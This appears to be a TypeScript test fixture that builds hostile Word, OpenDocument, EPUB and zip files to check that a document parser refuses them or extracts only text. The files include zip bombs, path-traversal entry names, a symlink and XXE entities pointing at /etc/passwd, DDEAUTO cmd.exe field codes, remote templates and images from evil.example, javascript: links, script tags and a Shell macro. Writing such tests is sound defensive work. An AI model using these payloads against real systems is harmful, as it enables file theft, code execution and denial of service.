import { bytesOf, opened, reads, refused, type HostileFile } from './hostile-file.ts';
import { zip, type ZipEntry } from './zip.ts';

/**
 * Word, OpenDocument, EPUB and bare archives (PROMISES §5). Bare archives are refused by their first bytes, at once and
 * unopened; of the others only the text is taken, whatever else is in them.
 */

const unknown = (name: string, content: () => string | Uint8Array): HostileFile =>
  refused(name, /^(file\/unknown-format|text\/binary)$/, content);

const GIGABYTE = 1_000_000_000;
const zeros = (megabytes: number) => new Uint8Array(megabytes * 1_000_000);

const w = (body: string): string =>
  `<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="urn:r"><w:body>${body}</w:body></w:document>`;
const run = (text: string): string => `<w:p><w:r><w:t>${text}</w:t></w:r></w:p>`;

const TYPES: ZipEntry = {
  name: '[Content_Types].xml',
  content: '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
};

/** A code that it is refused with, or the text that it opens with. */
type Outcome = RegExp | string;

const file = (name: string, outcome: Outcome, content: () => Uint8Array): HostileFile =>
  typeof outcome === 'string' ? opened(name, reads(outcome), content) : refused(name, outcome, content);

const EMPTY = /^text\/empty$/;
const TOO_DEEP = /^xml\/too-deep$/;
const ILL_FORMED = /^xml\/ill-formed$/;

const docx = (name: string, outcome: Outcome, body: string, ...more: readonly ZipEntry[]): HostileFile =>
  file(`${name}.docx`, outcome, () => zip([TYPES, { name: 'word/document.xml', content: w(body) }, ...more]));

/** Archives that call themselves Word files and hold no text. */
const noText = (name: string, content: () => Uint8Array): HostileFile =>
  refused(name, /^(?:docx\/no-document|zip\/damaged)$/, content);

const relation = (type: string, target: string): ZipEntry => ({
  name: 'word/_rels/document.xml.rels',
  content: `<Relationships><Relationship Id="r1" Type="${type}" Target="${target}" TargetMode="External"/></Relationships>`,
});

const ODF = ['office', 'text', 'table', 'draw', 'xlink'].map((name) => `xmlns:${name}="urn:${name}"`).join(' ');

const odt = (name: string, outcome: Outcome, content: string, ...more: readonly ZipEntry[]): HostileFile =>
  file(`${name}.odt`, outcome, () =>
    zip([
      { name: 'mimetype', method: 0, content: 'application/vnd.oasis.opendocument.text' },
      {
        name: 'content.xml',
        content: `<office:document-content ${ODF}><office:body><office:text>${content}</office:text></office:body></office:document-content>`,
      },
      ...more,
    ]),
  );

const epub = (name: string, outcome: Outcome, chapter: string, ...more: readonly ZipEntry[]): HostileFile =>
  file(`${name}.epub`, outcome, () =>
    zip([
      { name: 'mimetype', method: 0, content: 'application/epub+zip' },
      {
        name: 'META-INF/container.xml',
        content: '<container><rootfiles><rootfile full-path="a.opf"/></rootfiles></container>',
      },
      {
        name: 'a.opf',
        content:
          '<package><manifest><item id="c" href="c.xhtml"/></manifest><spine><itemref idref="c"/></spine></package>',
      },
      { name: 'c.xhtml', content: `<html xmlns="http://www.w3.org/1999/xhtml"><body>${chapter}</body></html>` },
      ...more,
    ]),
  );

/** Names that must never be taken for paths (H6). */
const NAMES = [
  '../../evil',
  '/etc/evil',
  'C:\\evil',
  '\\\\host\\evil',
  'a\\..\\evil',
  'a\0b',
  '%2e%2e%2fevil',
  '\u202elive',
  'e\u0301',
  'é',
  'CON',
  'a ',
];

const named = (name: string): ZipEntry => ({ name, content: 'x' });

export const archiveFiles: readonly HostileFile[] = [
  refused('bomb.docx', /^zip\/too-large$/, () => zip([TYPES, { name: 'word/document.xml', content: zeros(20) }])),
  noText('bomb of a gigabyte.docx', () =>
    zip([{ name: 'a', content: zeros(1), centralSize: GIGABYTE, localSize: GIGABYTE }]),
  ),
  refused('bomb of ten gigabytes.odt', /^zip\/too-large$/, () =>
    zip([{ name: 'content.xml', content: zeros(1), centralSize: 10 * GIGABYTE }]),
  ),
  refused('many parts.epub', /^epub\/no-book$/, () =>
    zip(Array.from({ length: 3000 }, (_, i) => named(`c${i}.xhtml`))),
  ),
  unknown('overlapping parts.zip', () =>
    zip([
      { name: 'a', content: zeros(1) },
      ...Array.from({ length: 2000 }, (_, i): ZipEntry => ({ name: `b${i}`, overlaps: true })),
    ]),
  ),
  noText('sizes that lie in the directory.docx', () => zip([{ ...TYPES, centralSize: 1 }])),
  noText('sizes that lie in the header.docx', () => zip([{ ...TYPES, localSize: 1 }])),
  noText('sizes that lie in both.docx', () => zip([{ ...TYPES, centralSize: 1000, localSize: 1000 }])),
  unknown('more entries than there are.zip', () => zip([TYPES], { declaredCount: 65_000 })),
  unknown('an archive of itself.zip', () =>
    zip([{ name: 'a.zip', content: zip([{ name: 'a.zip', content: zip([TYPES]) }]) }]),
  ),
  ...NAMES.map((name, i) => noText(`a name that is a path ${i}.docx`, () => zip([TYPES, named(name)]))),
  unknown('a name of 64 kilobytes.zip', () => zip([named('n'.repeat(65_535))])),
  unknown('a name of bad bytes.zip', () => zip([{ name: new Uint8Array([0xff, 0xfe, 0x2f]), content: 'x' }])),
  unknown('a link.zip', () =>
    zip([{ name: 'link', content: '/etc/passwd', method: 0, attributes: 0o120777 * 65_536 }]),
  ),
  noText('names twice.docx', () => zip([TYPES, TYPES, named('A'), named('a')])),
  noText('encrypted.docx', () => zip([{ ...TYPES, flags: 1 }])),
  noText('sizes behind the data.docx', () => zip([{ ...TYPES, flags: 8, localSize: 0 }])),
  noText('unknown compression.docx', () => zip([{ ...TYPES, method: 99 }])),
  noText('empty archive.docx', () => zip([])),
  noText('cut archive.docx', () => zip([TYPES]).subarray(0, 60)),
  noText('archive behind words.docx', () => bytesOf('Some words first. ', zip([TYPES]))),
  unknown('archive behind words', () => bytesOf('Some words first. ', zip([TYPES]))),
  unknown('archive before words.txt', () => bytesOf(zip([TYPES]), ' and words behind it')),
  unknown('archive in the guise of a page.html', () => zip([TYPES])),
  unknown('archive in the guise of our own.saidwho', () => zip([TYPES])),
  unknown('split archive.zip', () => bytesOf([0x50, 0x4b, 0x07, 0x08], zip([TYPES]))),
  unknown('gzip.txt', () => bytesOf([0x1f, 0x8b, 8, 0, 0, 0, 0, 0])),

  docx('linked picture', 'x', run('x'), relation('image', 'file:///etc/passwd')),
  docx('linked share', 'x', run('x'), relation('image', '\\\\evil.example\\share\\a.png')),
  docx('attached template', 'x', run('x'), relation('attachedTemplate', 'http://evil.example/t.dotm')),
  docx(
    'field codes',
    EMPTY,
    '<w:p><w:fldSimple w:instr="DDEAUTO c:\\\\windows\\\\cmd.exe"/><w:instrText>INCLUDETEXT /etc/passwd</w:instrText></w:p>',
  ),
  docx('link that runs', 'x', run('x'), relation('hyperlink', ['javascript', 'alert(1)'].join(':'))),
  docx('another format inside', EMPTY, '<w:altChunk r:id="r1"/>', {
    name: 'word/a.html',
    content: '<script>alert(1)</script>',
  }),
  docx('macros', 'x', run('x'), { name: 'word/vbaProject.bin', content: 'Attribute VB_Name' }),
  docx('changes in changes', TOO_DEEP, `${'<w:ins><w:del>'.repeat(5000)}x`),
  docx('style of a prototype', EMPTY, '<w:p><w:pPr><w:pStyle w:val="__proto__"/></w:pPr></w:p>'),
  docx('numbering of itself', 'x', run('x'), {
    name: 'word/numbering.xml',
    content: '<w:num w:numId="1"><w:numStyleLink w:val="1"/></w:num>',
  }),
  docx('many paragraphs', EMPTY, run('').repeat(300_000)),
  docx('many runs', 'a'.repeat(200_000), `<w:p>${'<w:r><w:t>a</w:t></w:r>'.repeat(200_000)}</w:p>`),
  docx('a huge table', EMPTY, `<w:tbl>${`<w:tr>${'<w:tc/>'.repeat(1000)}</w:tr>`.repeat(200)}</w:tbl>`),
  docx('comments anchored nowhere', EMPTY, '<w:commentReference w:id="99"/>', {
    name: 'word/comments.xml',
    content: '<w:comment w:id="1"/>',
  }),
  docx('twenty thousand levels', TOO_DEEP, '<w:sdt>'.repeat(20_000)),
  docx('entities', ILL_FORMED, '&a9;', {
    name: 'word/styles.xml',
    content: '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>',
  }),

  odt('spaces without end', EMPTY, '<text:p><text:s text:c="2000000000"/></text:p>'),
  odt('cells without end', EMPTY, '<table:table-cell table:number-columns-repeated="2147483648"/>'),
  odt('metadata bomb', EMPTY, '<x/>', { name: 'meta.xml', content: zeros(5) }),
  odt('macros', EMPTY, '<x/>', {
    name: 'Basic/Standard/Module1.xml',
    content: '<script:module>Shell "calc"</script:module>',
  }),
  odt(
    'a frame in frames',
    'x',
    `<text:p>${'<draw:frame><draw:text-box><text:p>'.repeat(80)}x${'</text:p></draw:text-box></draw:frame>'.repeat(80)}</text:p>`,
  ),
  odt(
    'many annotations',
    'x',
    `<text:p>x${'<office:annotation office:name="a"><text:p>y</text:p></office:annotation>'.repeat(20_000)}</text:p>`,
  ),
  odt('links outside', EMPTY, '<draw:image xlink:href="http://evil.example/x.png"/>'),
  odt('encrypted manifest', /^odt\/encrypted$/, '<x/>', {
    name: 'META-INF/manifest.xml',
    content: '<manifest:encryption-data/>',
  }),

  epub('script', EMPTY, '<script>alert(1)</script><svg><script>alert(1)</script></svg>'),
  epub(
    'frames',
    EMPTY,
    '<iframe srcdoc="x" src="javascript:alert(1)"/><meta http-equiv="refresh" content="0;url=http://evil.example"/>',
  ),
  epub(
    'remote',
    EMPTY,
    '<link rel="stylesheet" href="http://evil.example/x.css"/><img src="http://evil.example/p.gif"/>',
  ),
  epub('manifest outside', 'x', 'x', { name: 'b.opf', content: '<item href="../../../etc/passwd"/>' }),
  epub('spine of itself', 'x', 'x', {
    name: 'b.opf',
    content: '<spine><itemref idref="c"/><itemref idref="c"/></spine>',
  }),
  epub(
    'chapters without end',
    'x',
    'x',
    ...Array.from({ length: 2000 }, (_, i): ZipEntry => ({ name: `${i}.xhtml`, content: '' })),
  ),
  epub('encrypted fonts', 'x', 'x', { name: 'META-INF/encryption.xml', content: '<encryption/>' }),
  epub('entities', '&a;', '&a;', {
    name: 'd.xhtml',
    content: '<!DOCTYPE html [<!ENTITY a "aaaaaaaaaa">]><html>&a;</html>',
  }),
];
